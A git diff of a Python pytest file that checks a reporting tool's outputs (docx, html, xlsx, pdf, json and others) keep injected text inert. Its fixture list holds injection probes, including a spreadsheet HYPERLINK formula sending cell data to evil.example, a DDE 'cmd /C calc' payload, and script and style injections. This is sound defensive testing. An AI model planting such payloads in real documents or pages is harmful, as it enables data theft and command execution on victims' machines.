@@ -14,7 +14,6 @@ from typing import Any
 
 import pytest
 from lxml import etree, html
-from tests.outputs import readers
 from tests.outputs.reports import FAULTY, Part, as_docx, as_html, as_pdf, as_text, as_xlsx, parts_of
 from tests.outputs.runs import run_of, write_all
 from tests.outputs.test_consistency import check
@@ -22,6 +21,7 @@ from tests.outputs.web.drawing import CHROMIUM
 
 from juesuan_rules.findings import Finding
 from juesuan_rules.material import Material
+from juesuan_rules.outputs.guarding import xml_text
 
 TEXTS = (
     '=HYPERLINK("http://evil.example/?"&A1,"点")', "+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "＝1＋1", "<script>alert(1)</script>", "</style><style>body{display:none}</style>",
@@ -99,7 +99,12 @@ def test_the_report_is_judged_and_its_texts_arrive(outputs: dict[str, tuple[Mate
 @EVERY_FORMAT
 def test_all_outputs_still_tell_the_same(outputs: dict[str, tuple[Material, dict[str, Path]]], kind: str) -> None:
     found = {name: path.read_bytes() for name, path in outputs[kind][1].items()}
-    check(found)
+    check(found, _core)
+
+
+def _core(sentence: str) -> str:
+    """The beginning of a sentence, its Chinese characters and figures: all else each output writes in a way of its own."""
+    return "".join(re.findall("[一-鿿0-9]", xml_text(sentence)))[:150]
 
 
 @EVERY_FORMAT
@@ -109,7 +114,7 @@ def test_texts_stay_texts(outputs: dict[str, tuple[Material, dict[str, Path]]], 
     for name, path in files.items():
         if name in ("xlsx", "docx"):
             _check_package(path)
-        elif name != "pdf":
+        elif name not in ("pdf", "json"):
             text = path.read_text("utf-8")
             assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069\ufffe]", text), name
     etree.parse(str(files["junit"]), etree.XMLParser(resolve_entities=False))
